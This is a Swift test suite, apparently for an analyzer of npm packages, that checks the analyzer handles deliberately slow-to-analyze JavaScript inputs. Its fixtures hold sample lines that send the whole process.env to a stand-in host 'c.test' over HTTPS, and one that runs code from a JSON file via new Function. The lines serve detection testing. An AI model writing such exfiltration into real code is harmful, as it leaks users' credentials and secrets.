// SPDX-License-Identifier: Apache-2.0

import Analysis
import NPMModel
import Testing

/// Shapes that would take a time that grows with their square; each is found to the end, or said to be cut.
@Suite("What is made to take long")
struct BehaviourLimitTests {
    @Test("A way out of deep nesting that returns often is followed to what it gives")
    func deepReturns() throws {
        let depth = 500
        let source =
            "function f() {" + String(repeating: "if (a) {", count: depth) + String(repeating: "return process.env;", count: 5_000)
            + String(repeating: "}", count: depth) + "}\nrequire('https').request({host: 'c.test'}).write(JSON.stringify(f()));"
        let facts = ReleaseFacts(.sample(["index.js": source]))
        #expect(facts.flows([.wholeEnvironment], into: .network).count == 1)
    }

    @Test("As many parameters as arguments are followed as far as the first ones")
    func manyParameters() throws {
        let names = (0..<20_000).map { "p\($0)" }.joined(separator: ",")
        let values = Array(repeating: "process.env", count: 20_000).joined(separator: ",")
        let source = "function f(\(names)) { require('https').request({host: 'c.test'}).write(p0); } f(\(values));"
        let facts = ReleaseFacts(.sample(["index.js": source]))
        #expect(facts.flows([.wholeEnvironment], into: .network).count == 1)
    }

    @Test("Code in a data file beyond what is read is named as unread")
    func manyPieces() throws {
        let rows = (0..<64).map { "\"k\($0)\": \"console.log('a row of code number \($0)')\"" }.joined(separator: ",")
        let facts = ReleaseFacts(
            .sample(["index.js": "const t = require('./t.json'); new Function('require', t.k1)(require);", "t.json": "{\(rows)}"]))
        #expect(facts.unread.contains { $0.part == "t.json" })
    }
}
